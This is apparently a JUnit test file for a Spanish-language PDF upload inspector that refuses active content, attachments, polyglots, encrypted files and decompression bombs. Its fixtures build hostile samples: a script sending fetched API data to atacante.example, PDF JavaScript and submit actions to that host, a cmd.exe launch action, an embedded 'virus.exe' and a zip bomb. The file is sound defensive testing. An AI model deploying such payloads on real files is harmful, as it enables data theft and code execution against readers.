package cl.conveniosomm.documento;

import static org.assertj.core.api.Assertions.assertThat;

import cl.conveniosomm.support.Pdf;
import cl.conveniosomm.system.texto.PdfDesdeXhtml;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdfwriter.compress.CompressParameters;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.PDStream;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.common.filespecification.PDSimpleFileSpecification;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDAction;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionSubmitForm;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDFormFieldAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationWidget;
import org.apache.pdfbox.pdmodel.interactive.form.PDAcroForm;
import org.apache.pdfbox.pdmodel.interactive.form.PDTextField;
import org.junit.jupiter.api.Test;

/**
 * Only plain PDFs pass: what a browser or a PDF reader could run or unpack is refused in Spanish.
 */
class InspeccionPdfTest {

  private static final String HTML =
      "<html><body><script>fetch('/api/convenios').then(r => r.text())"
          + ".then(t => new Image().src = 'https://atacante.example/?' + t)</script></body></html>";

  @Test
  void plainPdfsPass() {
    assertThat(InspeccionPdf.problema(Pdf.de("convenio firmado"))).isEmpty();
    assertThat(InspeccionPdf.problema(comprimido(pdf -> {})))
        .as("PDF 1.5+ with object and xref streams")
        .isEmpty();
  }

  @Test
  void theProjectsOwnPdfsPass() {
    byte[] decreto =
        PdfDesdeXhtml.de(
            "<html><head><title>Decreto</title></head><body><h1>DECRETO EXENTO N° 1204"
                + "</h1><p>Apruébase el convenio. Véase <a href=\"https://www.sernameg.gob.cl\">SernamEG</a>.</p></body></html>");
    assertThat(InspeccionPdf.problema(decreto)).isEmpty();
  }

  @Test
  void linksAndFormFieldsWithoutActionsPass() {
    assertThat(
            InspeccionPdf.problema(
                Pdf.con("con enlace", pdf -> enlace(pdf, uri("https://www.gob.cl/")))))
        .isEmpty();
    assertThat(InspeccionPdf.problema(Pdf.con("con formulario", pdf -> campo(pdf, null))))
        .isEmpty();
  }

  @Test
  void javaScriptAnywhereIsRefused() {
    Map<String, byte[]> casos =
        Map.of(
            "OpenAction", Pdf.con("x", pdf -> pdf.getDocumentCatalog().setOpenAction(js())),
            "Names/JavaScript",
                Pdf.con(
                    "x",
                    pdf -> {
                      PDJavascriptNameTreeNode arbol = new PDJavascriptNameTreeNode();
                      arbol.setNames(Map.of("inicio", js()));
                      PDDocumentNameDictionary nombres =
                          new PDDocumentNameDictionary(pdf.getDocumentCatalog());
                      nombres.setJavascript(arbol);
                      pdf.getDocumentCatalog().setNames(nombres);
                    }),
            "catalog AA", Pdf.con("x", pdf -> pdf.getDocumentCatalog().getActions().setWC(js())),
            "page AA", Pdf.con("x", pdf -> pdf.getPage(0).getActions().setO(js())),
            "link", Pdf.con("x", pdf -> enlace(pdf, js())),
            "form field AA", Pdf.con("x", pdf -> campo(pdf, js())),
            "javascript: link", Pdf.con("x", pdf -> enlace(pdf, uri("JavaScript:app.alert(1)"))),
            "compressed OpenAction",
                comprimido(pdf -> pdf.getDocumentCatalog().setOpenAction(js())));
    casos.forEach(
        (caso, pdf) ->
            assertThat(InspeccionPdf.problema(pdf))
                .as(caso)
                .contains(InspeccionPdf.ACTIVO)
                .hasValueSatisfying(
                    mensaje ->
                        assertThat(mensaje)
                            .contains("contenido activo")
                            .contains("imprímalo como PDF")));
  }

  @Test
  void launchingProgramsAndSendingDataAreRefused() {
    PDActionLaunch launch = new PDActionLaunch();
    launch.setFile(archivoExterno("C:\\Windows\\System32\\cmd.exe"));
    PDActionSubmitForm enviar = new PDActionSubmitForm();
    enviar.setFile(archivoExterno("https://atacante.example/recibe"));

    assertThat(
            InspeccionPdf.problema(
                Pdf.con("x", pdf -> pdf.getDocumentCatalog().setOpenAction(launch))))
        .contains(InspeccionPdf.ACTIVO);
    assertThat(InspeccionPdf.problema(Pdf.con("x", pdf -> enlace(pdf, enviar))))
        .contains(InspeccionPdf.ACTIVO);
  }

  @Test
  void embeddedFilesAndXfaAreRefused() {
    byte[] incrustado =
        Pdf.con(
            "x",
            pdf -> {
              PDEmbeddedFilesNameTreeNode arbol = new PDEmbeddedFilesNameTreeNode();
              arbol.setNames(Map.of("virus.exe", archivo(pdf)));
              PDDocumentNameDictionary nombres =
                  new PDDocumentNameDictionary(pdf.getDocumentCatalog());
              nombres.setEmbeddedFiles(arbol);
              pdf.getDocumentCatalog().setNames(nombres);
            });
    byte[] anotacion =
        Pdf.con(
            "x",
            pdf -> {
              PDAnnotationFileAttachment clip = new PDAnnotationFileAttachment();
              clip.setRectangle(new PDRectangle(100, 100, 20, 20));
              clip.setFile(archivo(pdf));
              agregar(pdf, clip);
            });
    byte[] xfa =
        Pdf.con(
            "x",
            pdf -> {
              campo(pdf, null);
              pdf.getDocumentCatalog()
                  .getAcroForm()
                  .getCOSObject()
                  .setItem(COSName.XFA, new COSArray());
            });

    assertThat(InspeccionPdf.problema(incrustado)).contains(InspeccionPdf.ADJUNTOS);
    assertThat(InspeccionPdf.problema(anotacion)).contains(InspeccionPdf.ADJUNTOS);
    assertThat(InspeccionPdf.problema(xfa)).contains(InspeccionPdf.XFA);
  }

  @Test
  void pdfHtmlPolyglotsAreRefused() {
    byte[] limpio = Pdf.de("convenio");
    String texto = new String(limpio, StandardCharsets.ISO_8859_1);
    int finCabecera = texto.indexOf('\n') + 1;

    List<byte[]> poliglotas =
        List.of(
            bytes(texto.substring(0, finCabecera) + HTML + "\n" + texto.substring(finCabecera)),
            bytes(
                texto.substring(0, finCabecera) + "%" + HTML + "\n" + texto.substring(finCabecera)),
            bytes(
                texto.substring(0, finCabecera)
                    + "%<svg onload=alert(1)>\n"
                    + texto.substring(finCabecera)),
            bytes(
                texto.substring(0, finCabecera - 1)
                    + "<!DOCTYPE html>\n"
                    + texto.substring(finCabecera)),
            bytes(texto + HTML),
            bytes(texto + "\n<!--\n" + HTML));
    for (byte[] poliglota : poliglotas) {
      assertThat(InspeccionPdf.problema(poliglota))
          .as(new String(poliglota, StandardCharsets.ISO_8859_1))
          .contains(InspeccionPdf.POLIGLOTA);
    }
    assertThat(InspeccionPdf.problema(bytes(HTML + texto))).contains(InspeccionPdf.NO_ES_PDF);
    assertThat(InspeccionPdf.problema(bytes("\n" + texto))).contains(InspeccionPdf.NO_ES_PDF);
    assertThat(InspeccionPdf.problema(bytes(texto + " \r\n\0")))
        .as("whitespace after %%EOF is fine")
        .isEmpty();
  }

  @Test
  void whatPdfboxCannotReadIsRefused() {
    for (String basura :
        List.of(
            "%PDF-1.7\nno soy un PDF\n%%EOF\n",
            "%PDF-1.4\n%%EOF",
            "%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n",
            "%PDF-")) {
      assertThat(InspeccionPdf.problema(bytes(basura)))
          .as(basura)
          .contains(InspeccionPdf.INVALIDO)
          .hasValueSatisfying(
              mensaje -> assertThat(mensaje).startsWith("El archivo no es un PDF válido"));
    }
  }

  @Test
  void passwordProtectedPdfsAreRefusedUnlessAnyoneMayOpenThem() throws IOException {
    assertThat(InspeccionPdf.problema(cifrado("clave-de-apertura")))
        .contains(InspeccionPdf.CON_CLAVE);
    assertThat(InspeccionPdf.problema(cifrado("")))
        .as("only an owner password: readable, so inspected")
        .isEmpty();
  }

  @Test
  void decompressionBombsAreRefusedWithoutInflatingThemInMemory() {
    byte[] bomba =
        comprimido(
            pdf -> {
              try {
                PDStream ceros =
                    new PDStream(
                        pdf,
                        new CerosInputStream(InspeccionPdf.DESCOMPRIMIDO_MAXIMO + 1),
                        COSName.FLATE_DECODE);
                pdf.getDocumentCatalog()
                    .getCOSObject()
                    .setItem(COSName.getPDFName("Relleno"), ceros.getCOSObject());
              } catch (IOException e) {
                throw new UncheckedIOException(e);
              }
            });
    assertThat(bomba.length).isLessThan((int) DocumentoService.TAMANO_MAXIMO);
    assertThat(InspeccionPdf.problema(bomba)).contains(InspeccionPdf.DESMESURADO);
  }

  private static PDActionJavaScript js() {
    return new PDActionJavaScript(
        "this.submitForm('https://atacante.example/'); app.alert('hola');");
  }

  private static PDActionURI uri(String destino) {
    PDActionURI uri = new PDActionURI();
    uri.setURI(destino);
    return uri;
  }

  private static void enlace(PDDocument pdf, PDAction accion) {
    PDAnnotationLink enlace = new PDAnnotationLink();
    enlace.setRectangle(new PDRectangle(72, 700, 200, 20));
    enlace.setAction(accion);
    agregar(pdf, enlace);
  }

  private static void campo(PDDocument pdf, PDAction alCambiar) {
    PDAcroForm formulario = new PDAcroForm(pdf);
    pdf.getDocumentCatalog().setAcroForm(formulario);
    PDTextField nombre = new PDTextField(formulario);
    nombre.setPartialName("nombre");
    PDAnnotationWidget widget = nombre.getWidgets().get(0);
    widget.setRectangle(new PDRectangle(72, 600, 200, 20));
    widget.setPage(pdf.getPage(0));
    agregar(pdf, widget);
    formulario.getFields().add(nombre);
    if (alCambiar != null) {
      PDFormFieldAdditionalActions acciones = new PDFormFieldAdditionalActions();
      acciones.setK(alCambiar);
      nombre.getCOSObject().setItem(COSName.AA, acciones);
    }
  }

  private static void agregar(PDDocument pdf, PDAnnotation anotacion) {
    try {
      pdf.getPage(0).getAnnotations().add(anotacion);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static PDSimpleFileSpecification archivoExterno(String ruta) {
    PDSimpleFileSpecification archivo = new PDSimpleFileSpecification();
    archivo.setFile(ruta);
    return archivo;
  }

  private static PDComplexFileSpecification archivo(PDDocument pdf) {
    try {
      PDEmbeddedFile contenido = new PDEmbeddedFile(pdf, InputStream.nullInputStream());
      contenido.setSubtype("application/octet-stream");
      PDComplexFileSpecification archivo = new PDComplexFileSpecification();
      archivo.setFile("virus.exe");
      archivo.setEmbeddedFile(contenido);
      return archivo;
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** A PDF as PDFBox saves it by default: objects inside compressed object streams. */
  private static byte[] comprimido(Consumer<PDDocument> cambio) {
    try (PDDocument pdf = new PDDocument();
        ByteArrayOutputStream salida = new ByteArrayOutputStream()) {
      pdf.addPage(new PDPage());
      cambio.accept(pdf);
      pdf.save(salida, CompressParameters.DEFAULT_COMPRESSION);
      return salida.toByteArray();
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static byte[] cifrado(String claveDeApertura) throws IOException {
    try (PDDocument pdf = new PDDocument();
        ByteArrayOutputStream salida = new ByteArrayOutputStream()) {
      pdf.addPage(new PDPage());
      StandardProtectionPolicy politica =
          new StandardProtectionPolicy("clave-del-autor", claveDeApertura, new AccessPermission());
      politica.setEncryptionKeyLength(128);
      pdf.protect(politica);
      pdf.save(salida);
      return salida.toByteArray();
    }
  }

  private static byte[] bytes(String texto) {
    return texto.getBytes(StandardCharsets.ISO_8859_1);
  }

  /** {@code n} zero bytes, without holding them. */
  private static final class CerosInputStream extends InputStream {
    private long quedan;

    CerosInputStream(long n) {
      this.quedan = n;
    }

    @Override
    public int read() {
      return quedan-- > 0 ? 0 : -1;
    }

    @Override
    public int read(byte[] b, int off, int len) {
      if (quedan <= 0) {
        return -1;
      }
      int n = (int) Math.min(len, quedan);
      Arrays.fill(b, off, off + n, (byte) 0);
      quedan -= n;
      return n;
    }
  }
}
